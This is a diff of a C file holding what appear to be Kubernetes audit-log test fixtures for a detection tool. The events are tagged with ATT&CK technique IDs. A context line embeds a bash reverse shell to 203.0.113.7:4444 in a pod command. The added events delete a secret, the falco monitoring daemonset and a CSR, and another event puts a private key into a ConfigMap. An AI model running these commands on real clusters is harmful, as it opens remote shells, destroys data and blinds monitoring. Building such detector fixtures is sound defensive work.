@@ -301,6 +301,19 @@ static const char *const made[] = {
 	"{'verb':'create'," DEV ",'objectRef':{'resource':'pods','namespace':'prod','name':"
 	"'p'}," OK201 ",'requestObject':{'spec':{'containers':[{'name':'c','image':'alpine',"
 	"'command':['sh','-c','bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']}]}}}",
+	/* destructive_delete T1485, T1489, T1070: a secret, a daemonset and a
+	 * CSR deleted by a person */
+	"{'verb':'delete'," DEV ",'objectRef':{'resource':'secrets','namespace':'prod',"
+	"'name':'db'}," OK200 "}",
+	"{'verb':'delete'," DEV ",'objectRef':{'resource':'daemonsets','namespace':"
+	"'kube-system','name':'falco'}," OK200 "}",
+	"{'verb':'delete'," DEV ",'objectRef':{'resource':'certificatesigningrequests',"
+	"'name':'csr-1'}," OK200 "}",
+	/* hygiene T1136, T1610: an account in kube-system, a pod in default */
+	"{'verb':'create'," DEV ",'objectRef':{'resource':'serviceaccounts','namespace':"
+	"'kube-system','name':'helper'}," OK201 "}",
+	"{'verb':'create'," DEV ",'objectRef':{'resource':'pods','namespace':'default',"
+	"'name':'debug'}," OK201 "}",
 	/* configmap_credentials T1552: a private key in a ConfigMap */
 	"{'verb':'create'," DEV ",'objectRef':{'resource':'configmaps','namespace':'prod',"
 	"'name':'tls'}," OK201 ",'requestObject':{'data':{'key.pem':'-----BEGIN PRIVATE "
